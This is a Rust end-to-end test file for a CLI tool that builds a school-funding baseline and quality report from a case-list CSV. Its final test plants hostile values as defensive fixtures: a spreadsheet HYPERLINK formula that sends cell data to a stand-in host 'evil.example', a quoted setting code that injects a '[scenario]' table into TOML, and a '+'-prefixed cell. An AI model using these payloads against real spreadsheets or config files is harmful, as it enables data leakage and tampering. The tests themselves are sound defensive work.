//! End-to-end tests of `dsg baseline` and `dsg synth-cases`: the files written, the fragment
//! validating as part of a scenario, the HTML report's structure, and bad input.

mod common;

use common::{dsg, repo_root, tempdir};

fn example(name: &str) -> String {
    repo_root().join("data").join(name).display().to_string()
}

#[test]
fn writes_the_baseline_the_report_and_the_tables() {
    let dir = tempdir();
    let out = dir.path().join("baseline");
    let r = dsg(&[
        "baseline",
        &example("cases-example.csv"),
        "--as-at",
        "2026-03-31",
        "--mapping",
        &example("setting-map.csv"),
        "--out",
        &out.display().to_string(),
    ]);
    r.expect_code(0);
    for f in [
        "baseline.toml",
        "quality.html",
        "quality.csv",
        "quality-rows.csv",
        "dfe-tables.csv",
        "dfe-tables.xlsx",
        "manifest.json",
    ] {
        assert!(out.join(f).is_file(), "{f} missing");
    }
    let fragment = std::fs::read_to_string(out.join("baseline.toml")).unwrap_or_default();
    assert!(
        fragment.contains("SHA-256") && fragment.contains("[[provisions]]"),
        "{fragment}"
    );
    // The fragment, with the sections it does not give, is a valid scenario.
    let scenario = format!(
        "[scenario]\nname = \"from a case list\"\nbase_year = \"2025-26\"\nhorizon_years = 5\n\n{fragment}\n[funding]\nallocation = 10000000\n\n[dsg]\nopening_balance = -1000000\n\n[general_fund]\nusable_reserves = 5000000\n"
    );
    let path = dir.path().join("s.toml");
    let _ = std::fs::write(&path, scenario);
    dsg(&["validate", &path.display().to_string()]).expect_code(0);
    // Every kind planted in the example (2 of each) shows up in quality.csv.
    let q = std::fs::read_to_string(out.join("quality.csv")).unwrap_or_default();
    for line in q.lines().skip(1) {
        let count = line.split(',').nth(2).unwrap_or_default();
        // Two of each check's kind; the unreadable rows are two bad dates and two negative costs.
        let want = if line.starts_with("rows_left_out") {
            "4"
        } else {
            "2"
        };
        assert_eq!(count, want, "{line}");
    }
    // Running again replaces the earlier results.
    let again = dsg(&[
        "baseline",
        &example("cases-example.csv"),
        "--as-at",
        "2026-03-31",
        "--out",
        &out.display().to_string(),
    ]);
    again.expect_code(0);
    assert!(again.stderr.contains("Replaced"), "{}", again.stderr);
}

#[test]
fn the_report_is_well_formed_html_with_captions() {
    let dir = tempdir();
    let out = dir.path().join("b");
    dsg(&[
        "baseline",
        &example("cases-example.csv"),
        "--as-at",
        "2026-03-31",
        "--mapping",
        &example("setting-map.csv"),
        "--out",
        &out.display().to_string(),
    ])
    .expect_code(0);
    let html = std::fs::read_to_string(out.join("quality.html")).unwrap_or_default();
    let doc = scraper::Html::parse_document(&html);
    assert!(doc.errors.is_empty(), "{:?}", doc.errors);
    let sel = |s: &str| scraper::Selector::parse(s).unwrap_or_else(|e| panic!("{e}"));
    let tables = doc.select(&sel("table")).count();
    assert!(tables >= 5, "{tables} tables");
    for t in doc.select(&sel("table")) {
        assert!(
            t.select(&sel("caption")).next().is_some(),
            "a table without a caption"
        );
        assert!(
            t.select(&sel("th")).next().is_some(),
            "a table without headers"
        );
    }
    assert_eq!(doc.select(&sel("script")).count(), 0);
    // Headings in order: one h1, then h2s, h3s only under h2s.
    let levels: Vec<u8> = doc
        .select(&sel("h1, h2, h3"))
        .map(|h| h.value().name().as_bytes()[1] - b'0')
        .collect();
    assert_eq!(levels.first(), Some(&1));
    for w in levels.windows(2) {
        assert!(w[1] <= w[0] + 1, "heading jumps: {levels:?}");
    }
}

#[test]
fn bad_input_exits_2_and_writes_nothing() {
    let dir = tempdir();
    let bad = dir.path().join("bad.csv");
    let _ = std::fs::write(&bad, "id,name\n1,x\n");
    let out = dir.path().join("out");
    let r = dsg(&[
        "baseline",
        &bad.display().to_string(),
        "--as-at",
        "2026-03-31",
        "--out",
        &out.display().to_string(),
    ]);
    r.expect_code(2);
    assert!(
        r.stderr.contains("row 1") && r.stderr.contains("plan_id"),
        "{}",
        r.stderr
    );
    assert!(!out.exists());
    let r = dsg(&[
        "baseline",
        &example("cases-example.csv"),
        "--as-at",
        "31/13/2026",
    ]);
    r.expect_code(2);
    let r = dsg(&[
        "baseline",
        &dir.path().join("missing.csv").display().to_string(),
        "--as-at",
        "2026-03-31",
    ]);
    r.expect_code(2);
    // Issue 30, fault 12: a folder given as the case list is bad input like a missing file (it
    // exited 1, "Is a directory"), and nothing is written.
    let folder = dir.path().join("a-folder");
    let _ = std::fs::create_dir(&folder);
    let r = dsg(&[
        "baseline",
        &folder.display().to_string(),
        "--as-at",
        "2026-03-31",
        "--out",
        &out.display().to_string(),
    ]);
    r.expect_code(2);
    assert!(r.stderr.contains("is a folder"), "{}", r.stderr);
    assert!(!out.exists());
}

#[test]
fn synth_cases_is_deterministic_and_plants_what_it_says() {
    let dir = tempdir();
    let a = dir.path().join("a.csv");
    let b = dir.path().join("b.csv");
    let truth = dir.path().join("t.csv");
    for f in [&a, &b] {
        dsg(&[
            "synth-cases",
            "--rows",
            "2000",
            "--seed",
            "5",
            "--errors",
            "3",
            &f.display().to_string(),
            "--truth",
            &truth.display().to_string(),
        ])
        .expect_code(0);
    }
    assert_eq!(std::fs::read(&a).ok(), std::fs::read(&b).ok());
    let t = std::fs::read_to_string(&truth).unwrap_or_default();
    assert_eq!(t.lines().count(), 1 + 12 * 3);
}

/// Issue 30, faults 2-4 and the long cell of fault 13: hostile values in a case list give exit 0
/// with finite, inert outputs. A setting code holding a quote and new lines cannot write a
/// `[scenario]` table into baseline.toml; a plan id beginning with `=` is not a formula in any
/// CSV; costs of 1e308, `-inf` and `-0` are left out or read as 0, never `inf` or `-0`; a 50 KB
/// cell is not echoed whole.
#[test]
fn hostile_values_give_inert_outputs() {
    let dir = tempdir();
    let cases = dir.path().join("cases.csv");
    let long = "y".repeat(50_000);
    let evil_setting = "\"x\"\"\n[scenario]\nname = \"\"pwned\"\"\n#\"";
    let body = format!(
        "plan_id,child_id,date_of_birth,setting,primary_need,start_date,status,annual_cost\n\
         \"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",C1,2015-05-01,{evil_setting},ASD,2022-09-01,active,25000\n\
         P2,C2,2015-05-01,SP,ASD,2022-09-01,active,1e308\n\
         P3,C3,2015-05-01,SP,ASD,2022-09-01,active,-inf\n\
         P4,C4,2015-05-01,SP,ASD,2022-09-01,active,-0\n\
         P5,C5,2015-05-01,SP,{long},2022-09-01,active,100\n\
         +P6,C6,2015-05-01,SP,ASD,2022-09-01,active,30000\n"
    );
    let _ = std::fs::write(&cases, body);
    let out = dir.path().join("out");
    let r = dsg(&[
        "baseline",
        &cases.display().to_string(),
        "--as-at",
        "2026-03-31",
        "--out",
        &out.display().to_string(),
    ]);
    r.expect_code(0);
    assert!(!r.stdout.contains("inf"), "{}", r.stdout);
    assert!(
        r.stdout.split_whitespace().all(|w| w != "-0"),
        "{}",
        r.stdout
    );
    assert!(!r.stdout.contains("\n[scenario]"), "{}", r.stdout);
    let fragment = std::fs::read_to_string(out.join("baseline.toml")).unwrap_or_default();
    let parsed: toml::Table = fragment
        .parse()
        .unwrap_or_else(|e| panic!("baseline.toml is not TOML: {e}\n{fragment}"));
    assert!(!parsed.contains_key("scenario"), "{fragment}");
    assert!(!fragment.contains("inf"), "{fragment}");
    for file in [
        "quality.csv",
        "quality-rows.csv",
        "dfe-tables.csv",
        "quality.html",
    ] {
        let text = std::fs::read_to_string(out.join(file)).unwrap_or_default();
        assert!(!text.contains(&long), "{file} echoes the long cell");
        assert!(
            !text.contains("inf,") && !text.contains("-inf"),
            "{file}: {text}"
        );
        assert!(
            !text.contains(",-0,") && !text.contains(",-0\n"),
            "{file}: {text}"
        );
        if file.ends_with(".csv") {
            let mut rdr = csv::ReaderBuilder::new()
                .has_headers(false)
                .from_reader(text.as_bytes());
            for record in rdr.records().filter_map(Result::ok) {
                for cell in record.iter() {
                    assert!(
                        !cell.starts_with(['=', '+', '@']),
                        "{file}: a cell a spreadsheet would run: {cell}"
                    );
                }
            }
        }
    }
}
